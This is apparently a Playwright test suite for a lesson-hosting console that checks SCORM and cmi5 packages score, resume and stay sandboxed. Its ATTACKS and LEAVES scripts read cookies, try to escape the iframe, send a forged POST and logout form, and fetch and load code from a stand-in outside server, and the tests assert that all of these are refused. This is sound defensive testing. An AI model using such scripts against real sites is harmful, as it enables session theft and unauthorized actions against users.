"""Lessons from elsewhere and ours elsewhere, in a real browser: they run, score and resume, and reach nothing of the console.

Attack of promise LP1: a package reads cookies, asks the console, leaves its frame, climbs to its parent, sends
what it knows away.
"""

import contextlib
import io
import wave
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Frame, Page, expect

from dev.installation import Installation
from tests.journeys import axe, furnish, traveller
from tests.people import elsewhere, packages

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("journey-packages"), pytest.mark.timeout(600)]
SCORES = """
var api = window.parent.API; // as authoring tools climb: from above, not from here
api.LMSInitialize("");
document.getElementById("at").textContent = api.LMSGetValue("cmi.core.lesson_location") + "|" + api.LMSGetValue("cmi.suspend_data")
  + "|" + api.LMSGetValue("cmi.core.student_name") + "|" + (localStorage.getItem("x") === null);
document.getElementById("half").onclick = function () {
  api.LMSSetValue("cmi.core.lesson_location", "page-3"); api.LMSSetValue("cmi.suspend_data", "half-way");
  api.LMSSetValue("cmi.core.lesson_status", "incomplete"); api.LMSCommit("");
};
document.getElementById("end").onclick = function () {
  api.LMSSetValue("cmi.core.score.raw", "90"); api.LMSSetValue("cmi.core.lesson_status", "passed"); api.LMSFinish("");
};
"""
BODY = '<p id="at"></p><button id="half">half</button><button id="end">end</button>'
ATTACKS = """
const found = {};
const tried = (name, act) => { try { found[name] = String(act()); } catch (refused) { found[name] = "refused: " + refused.name; } };
const hub = Object.getOwnPropertyDescriptor(Window.prototype, "parent");
const above = window.top;
tried("origin", () => self.origin);
tried("cookie", () => document.cookie);
tried("above", () => above.document.title);
tried("api above", () => above.API);
tried("frame", () => window.frameElement);
tried("top", () => { above.location = "/lessons/"; return "went"; });
tried("popup", () => window.open("/lessons/"));
tried("worker", () => navigator.serviceWorker);
const asked = async (name, address, more) => {
  try { const answer = await fetch(address, more); found[name] = answer.type + " " + answer.status; } catch (refused) { found[name] = "refused"; }
};
const loads = (name, tag, address) => new Promise((done) => {
  const one = document.createElement(tag);
  one.onload = () => { found[name] = "loaded"; done(); };
  one.onerror = () => { found[name] = "refused"; done(); };
  one.src = address;
  document.body.append(one);
});
(async () => {
  await asked("api", "/api/v1/lessons", { credentials: "include" });
  await asked("page", "/lessons/", { credentials: "include", mode: "no-cors" });
  await asked("write", "/packages/", { method: "POST", credentials: "include", mode: "no-cors", body: "do=remove" });
  await asked("own", "data.json");
  await asked("away", "AWAY/fetch");
  await loads("picture", "img", "AWAY/picture.png");
  await loads("own picture", "img", "dot.svg");
  await loads("script", "script", "AWAY/script.js");
  await loads("console picture", "img", "/static/design/logo.svg");
  document.body.dataset.found = JSON.stringify(found);
})();
"""
LEAVES = """
() => {
  const form = document.createElement("form");
  form.action = "/account/logout/"; form.method = "post";
  document.body.append(form);
  form.submit();
  window.setTimeout(() => { location.href = "AWAY/left"; }, 200);
}
"""


class Away:
    """A stranger's server on another port: what reaches it."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.seen.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        Thread(target=self.server.serve_forever, args=(0.02,), daemon=True).start()


@pytest.fixture(scope="module")
def away() -> Iterator[Away]:
    made = Away()
    try:
        yield made
    finally:
        made.server.shutdown()
        made.server.server_close()


@pytest.fixture(scope="module")
def context(browser: Browser, installation: Installation) -> Iterator[BrowserContext]:
    """The owner, who may also write lessons."""
    with browser.new_context(locale="en-GB") as made:
        furnish.account(traveller.come_in(made, installation.link), installation.url)
        yield made


def add(page: Page, home: str, data: bytes, name: str = "lesson.zip", minutes: int = 1) -> str:
    """Through the page, opened to learners; its address."""
    page.goto(f"{home}/packages/")
    page.locator("input[type=file]").set_input_files({"name": name, "mimeType": "application/zip", "buffer": data})
    page.locator(".panel button[type=submit]").click()
    expect(page.locator("#author-title")).to_be_visible()
    page.locator("input[name=minutes]").fill(str(minutes))
    page.locator("button[value=open]").click()
    expect(page.locator("button[value=close]")).to_be_visible()
    return page.url


def begin(page: Page, address: str) -> Frame:
    """The frame of its first unfinished part."""
    page.goto(address)
    page.locator(".button.main[value=begin]").click()
    expect(page.locator("#player iframe")).to_be_visible()
    element = page.locator("#player iframe").element_handle()
    frame = element.content_frame() if element else None
    assert frame is not None
    frame.wait_for_load_state()
    return frame


def kept(page: Page) -> None:
    expect(page.locator("#player-said")).to_contain_text("Kept")


def test_a_package_scores_stops_and_resumes(context: BrowserContext, installation: Installation) -> None:
    page = context.new_page()
    address = add(page, installation.url, packages.simple(packages.page_of(SCORES, BODY)))
    frame = begin(page, address)
    expect(frame.locator("#at")).to_have_text("||Learner|true")
    assert axe.offences(page) == []
    frame.locator("#half").click()
    kept(page)
    frame = begin(page, address)
    expect(frame.locator("#at")).to_have_text("page-3|half-way|Learner|true")
    frame.locator("#end").click()
    expect(page.locator("#player-said")).to_contain_text("finished")
    page.locator("#player-back").click()
    expect(page.locator("main")).to_contain_text("passed")
    expect(page.locator("main")).to_contain_text("90 %")
    expect(page.locator("main")).to_contain_text(
        "faster than anybody learns"
    )  # the hub's clock, not the package's word
    assert axe.offences(page) == []
    page.goto(f"{installation.url}/packages/")
    assert axe.offences(page) == []
    page.close()


def sound(seconds: int) -> bytes:
    """Silence, uncompressed."""
    made = io.BytesIO()
    with wave.open(made, "wb") as out:
        out.setnchannels(2)
        out.setsampwidth(2)
        out.setframerate(44_100)
        out.writeframes(bytes(4 * 44_100 * seconds))
    return made.getvalue()


def test_a_learner_jumps_ahead_in_what_is_not_loaded(context: BrowserContext, installation: Installation) -> None:
    page = context.new_page()
    body = '<audio id="sound" src="talk.wav" preload="none"></audio>'
    data = packages.simple(packages.page_of("", body), **{"talk.wav": sound(60)})
    address = add(page, installation.url, data)
    parts: list[str] = []
    page.on("response", lambda one: parts.append(one.headers.get("content-range", "")) if one.status == 206 else None)
    frame = begin(page, address)
    at = frame.locator("#sound").evaluate(
        "one => new Promise((done, failed) => { one.onerror = () => failed(one.error.message);"
        " one.onloadedmetadata = () => { one.currentTime = 55; }; one.onseeked = () => done(one.currentTime); one.load();"
        " one.preload = 'auto'; })"
    )
    assert at == 55
    assert any(one and not one.startswith("bytes 0-") for one in parts), parts
    page.close()


def test_script_in_a_package_reaches_nothing(context: BrowserContext, installation: Installation, away: Away) -> None:
    page = context.new_page()
    script = ATTACKS.replace("AWAY", away.url)
    dot = b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'
    data = packages.simple(packages.page_of(script), **{"data.json": b"{}", "dot.svg": dot})
    address = add(page, installation.url, data)
    frame = begin(page, address)
    frame.wait_for_selector("body[data-found]", state="attached")
    found = frame.evaluate("JSON.parse(document.body.dataset.found)")
    own = {name: found.pop(name) for name in ("own", "own picture")}
    assert own == {"own": "cors 200", "own picture": "loaded"}
    assert found == {
        "origin": "null", "cookie": "", "above": "refused: SecurityError", "api above": "refused: SecurityError",
        "frame": "null", "top": "refused: SecurityError", "popup": "null", "worker": "refused: SecurityError",
        "api": "refused", "page": "refused", "write": "refused", "away": "refused", "picture": "refused",
        "script": "refused", "console picture": "refused",
    }  # fmt: skip
    with page.expect_event("console", lambda said: "Framing" in said.text or "form-action" in said.text):
        frame.evaluate(LEAVES.replace("AWAY", away.url))  # it tries to leave its frame, and to sign its reader out
    page.wait_for_timeout(500)
    assert away.seen == []
    assert page.url.startswith(f"{installation.url}/packages/attempt/")
    page.goto(f"{installation.url}/lessons/")
    expect(page.locator("h1")).to_be_visible()  # still signed in
    page.close()


def test_files_of_a_package_have_no_origin_in_a_tab_of_their_own(
    context: BrowserContext, installation: Installation
) -> None:
    page = context.new_page()
    address = add(page, installation.url, packages.simple(packages.page_of("document.title = self.origin;")))
    source = begin(page, address).url
    page.goto(source)
    expect(page).to_have_title("null")
    answer = context.request.get(source)
    assert "sandbox allow-scripts allow-forms;" in answer.headers["content-security-policy"]
    assert "set-cookie" not in answer.headers
    assert context.request.get(source.replace("index", "other")).status == 404
    page.close()


@pytest.mark.parametrize("version", ["1.2", "2004 4th Edition"])
def test_a_package_made_elsewhere_runs_scores_and_resumes(
    context: BrowserContext, installation: Installation, tmp_path: Path, version: str
) -> None:
    page = context.new_page()
    address = add(page, installation.url, elsewhere.made(version, tmp_path / "made"))
    frame = begin(page, address)
    expect(frame.locator("#at")).to_have_text("true|")
    frame.locator("button").click()
    kept(page)
    frame = begin(page, address)
    expect(frame.locator("#at")).to_have_text("true|seen")
    frame.locator("button").click()
    expect(page.locator("#player-said")).to_contain_text("finished")
    page.locator("#player-back").click()
    expect(page.locator("main")).to_contain_text("80 %")
    page.close()


@pytest.mark.parametrize("form", ["scorm12", "scorm2004", "cmi5"])
def test_a_lesson_of_ours_runs_scores_and_resumes_elsewhere(
    context: BrowserContext, installation: Installation, form: str
) -> None:
    page = context.new_page()
    data = context.request.get(f"{installation.url}/lessons/phishing_by_mail/package/{form}.zip").body()
    assert "lesson.js" in zipfile.ZipFile(io.BytesIO(data)).namelist()
    address = add(page, installation.url, data, f"{form}.zip", minutes=20)
    frame = begin(page, address)
    for _ in range(3):
        step(page, frame)
    expect(frame.locator("main")).to_contain_text("Decision 4.")
    frame = begin(page, address)
    expect(frame.locator("main")).to_contain_text("Decision 4.")  # resumed
    frame.locator("select").select_option("zh")
    expect(frame.locator("main")).to_contain_text("第 4 个决定。")
    frame.locator("select").select_option("en")
    for _ in range(60):
        if frame.locator("input[name=value]").count() == 0:
            break
        step(page, frame)
    expect(frame.locator(".done")).to_contain_text("answers fitted at once")
    page.locator("#player-back").click()
    expect(page.locator("main")).to_contain_text("passed")  # or “not passed yet”: first choices only
    expect(page.locator("main")).to_contain_text(" %")
    page.close()


def step(page: Page, frame: Frame) -> None:
    """Taken, and kept by the console."""
    frame.locator("input[name=value]").first.check()
    with page.expect_response(lambda answer: answer.request.method in ("POST", "PUT") and answer.ok):
        frame.locator("button[type=submit]").click()


def test_on_its_own_it_works_offline_and_for_everybody(
    browser: Browser, context: BrowserContext, installation: Installation, tmp_path: Path
) -> None:
    data = context.request.get(f"{installation.url}/lessons/payment_voice/package/scorm12.zip").body()
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        packed.extractall(tmp_path)
    looks: list[tuple[str, Any]] = [("fr-FR", "light"), ("zh-CN", "dark")]
    for locale, scheme in looks:
        made = browser.new_context(
            locale=locale, offline=True, viewport={"width": 390, "height": 800}, color_scheme=scheme
        )  # type: ignore[arg-type]
        with contextlib.closing(made):
            page = made.new_page()
            page.goto((tmp_path / "index.html").as_uri())
            expect(page.locator(".quiet").first).to_be_visible()
            assert axe.offences(page) == []
            page.locator("input[name=value]").first.focus()
            page.keyboard.press("Space")
            page.keyboard.press("Enter")
            expect(page.locator(".said")).to_be_visible()
            assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
